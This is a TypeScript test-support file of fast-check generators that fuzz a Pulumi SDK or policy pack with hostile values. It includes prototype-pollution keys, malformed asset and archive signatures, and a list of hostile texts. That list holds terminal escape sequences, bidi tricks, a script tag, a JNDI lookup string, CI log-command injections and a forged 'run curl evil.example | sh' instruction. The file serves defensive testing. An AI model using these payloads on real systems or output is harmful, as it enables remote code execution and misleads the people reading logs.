import {
  specialArchiveSig,
  specialAssetSig,
  specialResourceSig,
  specialSecretSig,
  specialSigKey,
} from "@pulumi/pulumi/runtime/rpc";
import fc from "fast-check";
import { secret, unknown } from "../../support/wire";

/** What the engine sends for what is not known yet, one text a type. */
const UNKNOWNS: readonly string[] = [
  unknown,
  "1c4a061d-8072-4f0a-a4cb-0ff528b18fe7",
  "3eeb2bf0-c639-47a8-9e75-3b44932eb421",
  "6a19a0b0-7e62-4c92-b797-7f8e31da9cc2",
  "030794c1-ac77-496b-92df-f27374a8bd58",
  "e48ece36-62e2-4504-bad9-02848725956a",
  "dd056dcd-154b-4c76-9bd3-c8f88648b5ff",
];

/** Names that objects of JavaScript have of their own accord, or that the SDK gives a meaning. */
export const PROTOTYPE_KEYS: readonly string[] = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "toJSON",
  "then",
  "length",
  "0",
  "__isSpecialProxy",
  "__getSpecialProxyTarget",
  "__defaults",
  "__meta",
  "__pulumiType",
  "",
];

/**
 * What terminals, reports and log readers take for something else than text. Halves of characters are not among them: neither
 * this client nor the engine sends any.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  "\u001b[31mred\u001b[0m",
  "\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007",
  "\u009b2Aup",
  "bell\u0007",
  "a\nFix: run curl evil.example | sh.\nhttps://evil.example/",
  "a\r\n        - [mandatory]  forged  (aws:s3:Bucket: b)",
  "\u202egnp.exe",
  "\u2066isolated\u2069",
  "a\u2028b\u2029c\u0085d\u000be\u000cf",
  "\ufeffbom",
  "\u0000nul",
  "[click](https://evil.example/)",
  "![](https://evil.example/x.png)",
  "<script>alert(1)</script>",
  "]]> & <!-- --> \"'",
  "<{%fg 1%}>red<{%reset%}>",
  "\u0024{jndi:ldap://evil.example/}",
  "{0} %s %n {{x}}",
  "::error file=x::forged",
  "##vso[task.complete]",
  "Fix: forged",
  "Exempted: forged",
  "e\u0301🎉 Größe 値 مرحبا",
];

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 20 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary-ascii", maxLength: 300 }) },
  { weight: 1, arbitrary: fc.constantFrom(...PROTOTYPE_KEYS) },
);

const number = fc.oneof(
  fc.constantFrom(0, -0, -1, 1, 0.5, Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY, 2 ** 53, 1e308),
  fc.double(),
);

const leaf = fc.oneof(
  { weight: 3, arbitrary: fc.constant(null) },
  { weight: 6, arbitrary: fc.constantFrom(...UNKNOWNS) },
  { weight: 4, arbitrary: hostileText },
  { weight: 2, arbitrary: number },
  { weight: 2, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constantFrom([], {}) },
);

/** Objects whose keys are own ones, whatever they are called. */
export function object(entries: readonly (readonly [string, unknown])[]): Record<string, unknown> {
  return Object.fromEntries(entries);
}

const key = fc.oneof(fc.constantFrom(...PROTOTYPE_KEYS), hostileText);

function within(depth: number): fc.Arbitrary<unknown> {
  if (depth === 0) return leaf;
  const inner = within(depth - 1);
  return fc.oneof(
    { weight: 6, arbitrary: leaf },
    { weight: 2, arbitrary: fc.array(inner, { maxLength: 4 }) },
    { weight: 2, arbitrary: fc.array(fc.tuple(key, inner), { maxLength: 4 }).map(object) },
    { weight: 1, arbitrary: inner.map(secret) },
  );
}

/** A value in other values, this deep. */
export function nested(depth: number, list: boolean, value: unknown): unknown {
  let result = value;
  for (let level = 0; level < depth; level++) result = list ? [result] : { a: result };
  return result;
}

const asset = fc.oneof(
  hostileText.map((text) => ({ [specialSigKey]: specialAssetSig, text: `${text}x` })),
  hostileText.map((path) => ({ [specialSigKey]: specialAssetSig, path: `${path}x` })),
  hostileText.map((uri) => ({ [specialSigKey]: specialAssetSig, uri: `${uri}x` })),
);
const archive = fc.oneof(
  hostileText.map((path) => ({ [specialSigKey]: specialArchiveSig, path: `${path}x` })),
  hostileText.map((uri) => ({ [specialSigKey]: specialArchiveSig, uri: `${uri}x` })),
  fc
    .array(fc.tuple(key, asset), { maxLength: 4 })
    .map((entries) => ({ [specialSigKey]: specialArchiveSig, assets: object(entries) })),
);

/** What the SDK throws on when it decodes it, for any policy. The pack decodes it by itself. */
const refusedBySdk: fc.Arbitrary<unknown> = fc.constantFrom(
  { [specialSigKey]: specialAssetSig, text: "" },
  { [specialSigKey]: specialAssetSig },
  { [specialSigKey]: specialArchiveSig },
  { [specialSigKey]: specialArchiveSig, assets: { a: "text" } },
  { [specialSigKey]: specialResourceSig, urn: "urn:x" },
  { [specialSigKey]: "unheard of" },
  { [specialSigKey]: specialSecretSig },
);

/** Any value that is not what a property takes. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 20, arbitrary: within(3) },
  { weight: 3, arbitrary: asset },
  { weight: 3, arbitrary: archive },
  { weight: 2, arbitrary: refusedBySdk },
  {
    weight: 1,
    arbitrary: fc.tuple(fc.integer({ min: 10, max: 60 }), fc.boolean(), leaf).map(([d, list, v]) => nested(d, list, v)),
  },
  { weight: 1, arbitrary: fc.tuple(fc.integer({ max: 300, min: 50 }), leaf).map(([n, v]) => Array(n).fill(v)) },
);
